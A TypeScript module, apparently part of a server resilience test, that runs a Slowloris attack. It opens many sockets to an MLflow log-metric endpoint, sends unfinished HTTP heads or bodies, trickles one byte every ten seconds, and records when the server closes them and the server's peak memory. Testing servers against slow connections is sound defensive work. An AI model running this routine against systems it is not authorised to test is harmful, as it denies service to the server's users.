import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { residentMb } from './kept.ts';

export type SlowlorisResult = {
  readonly sockets: number;
  /** Since they were opened, until the first and the last one was closed by the server; null: some never were. */
  readonly firstClosedSeconds: number | null;
  readonly lastClosedSeconds: number | null;
  readonly leftOpen: number;
  readonly peakMb: number;
};

const BYTE_EVERY_MS = 10_000;

/** Connections that send one byte every ten seconds for as long as they may: half of them of a head, half of a body. */
export async function attackSlowly(url: URL, pid: number, sockets: number, seconds: number): Promise<SlowlorisResult> {
  const begin = performance.now();
  const closedAt: number[] = [];
  const all = Array.from({ length: sockets }, (_, i) => {
    const socket = connect({ host: url.hostname, port: Number(url.port), noDelay: true });
    socket.on('error', () => {});
    socket.on('close', () => closedAt.push((performance.now() - begin) / 1000));
    socket.resume();
    socket.write(i % 2 === 0 ? UNFINISHED_HEAD : WITHOUT_BODY);
    return socket;
  });
  let peakMb = 0;
  while (performance.now() < begin + seconds * 1000 && closedAt.length < sockets) {
    await sleep(Math.min(BYTE_EVERY_MS, begin + seconds * 1000 - performance.now()));
    peakMb = Math.max(peakMb, residentMb(pid));
    for (const socket of all) if (isWritable(socket)) socket.write('a');
  }
  const leftOpen = sockets - closedAt.length;
  for (const socket of all) socket.destroy();
  return {
    sockets,
    firstClosedSeconds: closedAt[0] ?? null,
    lastClosedSeconds: leftOpen === 0 ? (closedAt[sockets - 1] ?? null) : null,
    leftOpen,
    peakMb,
  };
}

const isWritable = (socket: Socket) => socket.writable && !socket.destroyed;

const UNFINISHED_HEAD = 'POST /api/2.0/mlflow/runs/log-metric HTTP/1.1\r\nhost: localhost\r\nx-slow: ';
const WITHOUT_BODY =
  'POST /api/2.0/mlflow/runs/log-metric HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ncontent-length: 1000\r\n\r\n';
